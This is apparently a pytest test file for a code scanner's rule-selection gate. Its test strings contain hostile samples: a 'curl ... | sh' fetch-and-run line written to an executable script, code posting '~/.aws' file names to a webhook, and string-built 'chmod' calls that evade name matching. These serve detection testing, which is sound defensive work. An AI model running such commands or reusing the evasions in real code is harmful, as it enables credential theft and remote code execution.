"""`together` fact rules one of whose items cannot occur in a file are left out of its rule subset (together_gate)."""
from __future__ import annotations

from pathlib import Path

import pytest

from codescan.analyze.document import Analyzer
from codescan.analyze.semantics import engine
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()
FETCH = "remote-fetch-script-made-executable"
PACKED = "credential-store-packed-for-upload"
WRITE = 'def f(p):\n    with open(p, "w") as h:\n        h.write("curl -s http://x.example/i | sh")\n'


def _chosen(source: bytes, language: str = "python") -> set[str]:
    wanted, chosen = engine.FactRules(RULES.rules).active(language, source)
    return {rule.id for rule, _r in chosen}


def _findings(analyzer, path: str, code: bytes) -> list[tuple]:
    analysis = analyzer.analyze(Document(path=path, content=code))
    return [(f.rule_id, f.line, f.column, f.severity, f.message, f.context, f.trace) for f in analysis.findings]


def test_a_together_rule_without_one_items_word_is_left_out():
    assert FETCH not in _chosen(WRITE.encode())  # a write, no chmod anywhere: the pair cannot be met
    assert FETCH in _chosen((WRITE + "    import os\n    os.chmod(p, 0o755)\n").encode())
    assert FETCH in _chosen((WRITE + "    p.chmod(0o755)\n").encode())  # `**.chmod`: any owner
    # the word only in a text still counts (getattr on a literal, a table of names)
    assert FETCH in _chosen((WRITE + '    import os\n    ops = {"m": os.chmod}\n').encode())


@pytest.mark.parametrize("builder", [b'getattr(os, "ch" + "mod")(p, 0o755)', b'os.__dict__["ch" "mod"](p, 0o755)',
                                     b'vars(os)["ch" + "mod"](p, 0o755)', b'eval("os.ch" + "mod")(p, 0o755)',
                                     b'operator.methodcaller("ch" + "mod", 0o755)(p)',
                                     b'operator.attrgetter("ch" + "mod")(os)(p, 0o755)'])
def test_a_name_built_from_text_keeps_every_together_rule(builder):
    source = WRITE.encode() + b"    import os, operator\n    " + builder + b"\n"
    assert FETCH in _chosen(source)


def test_an_item_that_needs_a_label_absent_from_the_file_leaves_the_rule_out():
    upload = b'import os, requests\nfor n in os.listdir("."):\n    requests.post("https://hooks.slack.com/x", data=n)\n'
    assert PACKED not in _chosen(upload)  # no credential store named: the first item's label cannot be given
    stolen = upload.replace(b'os.listdir(".")', b'os.listdir(os.path.expanduser("~/.aws"))')
    assert PACKED in _chosen(stolen)


def test_other_languages_keep_their_together_rules_whatever_their_words():
    js = b'const fs = require("fs");\nfs.writeFileSync("a.sh", "curl -s http://x.example/i | sh");\n'
    assert FETCH in _chosen(js, "javascript")


def test_findings_are_the_same_with_and_without_the_gate(monkeypatch):
    """The fixtures of every rule that wants a callee some together rule wants too (their files hold the words)."""
    root = Path(__file__).resolve().parent.parent / "fixtures" / "rules" / "facts"
    together = tuple(r.id for r in RULES.rules if r.facts is not None and r.facts.sink is None)
    analyzer = Analyzer(RULES.select(together, ()), Config(honour_suppressions=False))
    files = [p for rule in together for p in sorted((root / rule).glob("*")) if p.suffix in (".py", ".js")]
    assert len(files) >= 8 and len(together) >= 5
    seen = 0
    for path in files:
        code = path.read_bytes()
        with_gate = _findings(analyzer, str(path), code)
        monkeypatch.setattr(engine, "TOGETHER_GATE", False)
        without = _findings(analyzer, str(path), code)
        monkeypatch.setattr(engine, "TOGETHER_GATE", True)
        assert with_gate == without, path
        seen += sum(1 for f in with_gate if f[0] in together)
    assert seen >= 5  # the together rules' own positives are among them, still found
